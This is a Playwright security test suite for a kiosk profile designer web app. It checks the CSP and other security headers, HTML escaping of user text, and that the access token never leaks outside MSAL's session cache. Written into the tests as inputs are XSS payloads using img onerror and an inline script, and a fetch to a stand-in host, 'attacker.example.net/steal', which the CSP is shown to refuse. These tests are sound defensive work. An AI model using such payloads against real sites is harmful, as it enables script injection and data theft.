// Security promises, each shown in the running app: the production headers and CSP are served
// and enforced, user-controlled text is never rendered as HTML, and the access token lives only
// in MSAL's sessionStorage cache — never in drafts, history, downloads or logs.
import { readFile } from 'node:fs/promises';
import type { Download, Page } from '@playwright/test';
import { expect, test } from './fixtures';
import { addEntries, openLayoutSection } from './designer-helpers';
import { fakeEntra } from './fakes/entra';
import { corsHeaders, fakeGraph } from './fakes/graph';
import { CLIENT_ID, LOBBY, TENANT_ID, designOneProfile, setTarget, signIn, useConfig } from './entra-helpers';

test('the app is served with a strict CSP and the other security headers', async ({ page }) => {
  const response = await page.goto('/');
  const headers = response?.headers() ?? {};
  const csp = headers['content-security-policy'] ?? '';
  expect(csp).toContain("script-src 'self'");
  expect(csp).toContain("connect-src 'self' https://login.microsoftonline.com https://graph.microsoft.com");
  expect(csp).toContain("frame-ancestors 'none'");
  expect(csp).toContain("object-src 'none'");
  expect(csp).toContain("base-uri 'self'");
  expect(headers['referrer-policy']).toBe('no-referrer');
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['permissions-policy']).toContain('camera=()');
});

test('the MSAL redirect bridge page is served as MSAL requires: no-store, no COOP, framable by the app only', async ({ page }) => {
  const response = await page.goto('/redirect-bridge.html');
  const headers = response?.headers() ?? {};
  expect(headers['cache-control']).toBe('no-store');
  expect(headers['cross-origin-opener-policy']).toBeUndefined();
  const csp = headers['content-security-policy'] ?? '';
  expect(csp).toContain("script-src 'self'");
  expect(csp).toContain("frame-ancestors 'self'");
  expect(headers['x-frame-options']).toBe('SAMEORIGIN');
  expect(headers['referrer-policy']).toBe('no-referrer');
  // Opened on its own (no answer from Entra ID in the URL) it explains itself, under its own CSP.
  await expect(page.getByText('This page only finishes a sign-in for Kiosk Profile Designer.')).toBeVisible();
  await expect(page.getByRole('link', { name: 'Open the designer' })).toHaveAttribute('href', './');
  // The app itself still refuses to be framed by anyone, and frames only Entra ID and the bridge.
  const app = (await page.request.get('/')).headers();
  expect(app['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(app['content-security-policy']).toContain("frame-src 'self' https://login.microsoftonline.com");
  expect(app['x-frame-options']).toBe('DENY');
});

test('the CSP is enforced: inline script and calls to other hosts are refused', async ({ page, cspViolations }) => {
  await page.goto('/');
  await expect(page.getByRole('textbox', { name: 'Profile name' })).toBeVisible();
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__inline = 1';
    document.head.append(script);
  });
  const fetched = await page.evaluate(() =>
    fetch('https://attacker.example.net/steal').then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(fetched).toBe('refused');
  expect(await page.evaluate(() => (window as unknown as { __inline?: number }).__inline)).toBeUndefined();
  await expect.poll(() => cspViolations.length).toBeGreaterThanOrEqual(2);
  expect(cspViolations.join('\n')).toMatch(/script-src/);
  expect(cspViolations.join('\n')).toMatch(/connect-src/);
  cspViolations.length = 0; // these violations were the point of the test
});

test('user-controlled text is shown as text, never run as HTML', async ({ page }) => {
  const attack = '<img src=x onerror="window.__xss=1">';
  await page.goto('/');
  await page.getByRole('textbox', { name: 'Profile name' }).fill(attack);
  await addEntries(page, 'App user model IDs', [`${attack}!App`]);
  await openLayoutSection(page);
  await page.getByRole('textbox', { name: 'Start menu layout XML' }).fill(`<a><script>window.__xss=2</script>${attack}</a>`);
  await page.getByRole('button', { name: 'Import request body' }).click();
  const dialog = page.getByRole('dialog', { name: 'Import request body' });
  const [chooser] = await Promise.all([page.waitForEvent('filechooser'), dialog.getByRole('button', { name: 'Choose JSON file…' }).click()]);
  await chooser.setFiles({ name: `${attack}.json`, mimeType: 'application/json', buffer: Buffer.from('not json') });
  await expect(dialog.getByRole('alert')).toContainText(`"${attack}.json" is not valid JSON`);
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByRole('tab', { name: attack })).toBeVisible();
  await expect(page.getByLabel('Request body JSON')).toContainText(attack.replace(/"/g, '\\"'));
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
});

async function saved(download: Download): Promise<string> {
  return readFile(await download.path(), 'utf8');
}

async function downloadFrom(page: Page, click: () => Promise<void>): Promise<string> {
  const [download] = await Promise.all([page.waitForEvent('download'), click()]);
  return saved(download);
}

test('the access token is never stored, downloaded or logged outside MSAL’s session cache', async ({ page }) => {
  const logs: string[] = [];
  page.on('console', (m) => logs.push(m.text()));
  await useConfig(page, { clientId: CLIENT_ID, tenantId: TENANT_ID });
  const entra = await fakeEntra(page, { clientId: CLIENT_ID, tenantId: TENANT_ID });
  let attempt = 0;
  await fakeGraph(page, {
    onAction: async (_call, route) => {
      attempt += 1;
      if (attempt === 1) {
        return route.fulfill({
          status: 401,
          headers: corsHeaders(route.request()),
          contentType: 'application/json',
          body: JSON.stringify({ error: { code: 'InvalidAuthenticationToken', message: 'Access token validation failure.' } }),
        });
      }
      return route.fulfill({ status: 204, headers: corsHeaders(route.request()) });
    },
  });
  await signIn(page);
  await designOneProfile(page);
  await setTarget(page, LOBBY?.id ?? '');
  await page.getByRole('button', { name: 'Submit to Graph' }).click();
  const failure = page.getByRole('alert').filter({ hasText: '401' });
  await expect(failure).toBeVisible();
  const artefacts: Record<string, string> = {};
  // What the page shows while the 401 is on screen (the failure details are the likeliest leak).
  artefacts['page text with the 401 alert'] = await page.locator('body').innerText();
  artefacts['401 alert text'] = await failure.innerText();
  await page.getByRole('button', { name: 'Submit to Graph' }).click();
  await expect(page.getByRole('status').filter({ hasText: 'Submitted' })).toBeVisible();

  const secrets = [...entra.issued, ...entra.issued.map((t) => t.replace('access', 'refresh'))];
  expect(entra.issued.length).toBeGreaterThan(0);

  // The request snippets: every language's text as shown and as downloaded.
  await page.getByRole('button', { name: 'Snippets' }).click();
  const snippets = page.getByRole('dialog', { name: 'Request snippets' });
  for (const [tab, file] of [
    ['PowerShell', 'send-kiosk-profiles.ps1'],
    ['curl', 'send-kiosk-profiles.sh'],
    ['JavaScript fetch', 'send-kiosk-profiles.mjs'],
  ] as const) {
    await snippets.getByRole('tab', { name: tab }).click();
    await expect(snippets.getByRole('tab', { name: tab })).toHaveAttribute('aria-selected', 'true');
    artefacts[`snippets dialog (${tab})`] = await snippets.innerText();
    artefacts[`snippet download ${file}`] = await downloadFrom(page, () => snippets.getByRole('button', { name: `Download ${file}` }).click());
  }
  await snippets.getByRole('button', { name: 'Close' }).click();
  await expect(snippets).toBeHidden();
  artefacts['request body download'] = await downloadFrom(page, () => page.getByRole('button', { name: 'Download request body' }).click());
  await page.getByRole('button', { name: /^History/ }).click();
  const history = page.getByRole('dialog', { name: 'Submission history' });
  artefacts['history download'] = await downloadFrom(page, () => history.getByRole('button', { name: 'Download all' }).click());
  await history.getByRole('button', { name: 'Close' }).click();
  const storage = await page.evaluate((clientId) => {
    const out: Record<string, string> = {};
    for (let i = 0; i < localStorage.length; i++) {
      const key = localStorage.key(i) ?? '';
      out[`localStorage:${key}`] = localStorage.getItem(key) ?? '';
    }
    for (let i = 0; i < sessionStorage.length; i++) {
      const key = sessionStorage.key(i) ?? '';
      // MSAL's own cache is the one place the token may live (sessionStorage, this tab only).
      const msal = key.startsWith('msal.') || key.includes(clientId);
      if (!msal) out[`sessionStorage:${key}`] = sessionStorage.getItem(key) ?? '';
    }
    return out;
  }, CLIENT_ID);
  Object.assign(artefacts, storage);
  artefacts['page text'] = await page.locator('body').innerText();
  artefacts['console'] = logs.join('\n');
  expect(Object.keys(artefacts).some((k) => k.includes('kiosk-profile-designer:history'))).toBe(true);
  // The artefacts are the real ones: the 401 and its details, and snippets that carry the body.
  expect(artefacts['401 alert text']).toContain('401');
  expect(artefacts['page text with the 401 alert']).toContain(artefacts['401 alert text'] ?? '\u0000');
  for (const file of ['send-kiosk-profiles.ps1', 'send-kiosk-profiles.sh', 'send-kiosk-profiles.mjs']) {
    expect(artefacts[`snippet download ${file}`]).toContain('assignedAccessMultiModeProfiles');
    expect(artefacts[`snippet download ${file}`]).toContain('Front desk');
  }

  for (const [where, text] of Object.entries(artefacts)) {
    for (const secret of secrets) expect(text.includes(secret), `${where} contains a token`).toBe(false);
  }
  // The token does sit in MSAL's sessionStorage cache, so the search above looked in the right place.
  const inMsalCache = await page.evaluate((token) => Object.keys(sessionStorage).some((k) => (sessionStorage.getItem(k) ?? '').includes(token)), entra.issued.at(-1) ?? '');
  expect(inMsalCache).toBe(true);
  const inLocal = await page.evaluate((token) => Object.keys(localStorage).some((k) => (localStorage.getItem(k) ?? '').includes(token)), entra.issued.at(-1) ?? '');
  expect(inLocal).toBe(false);
});
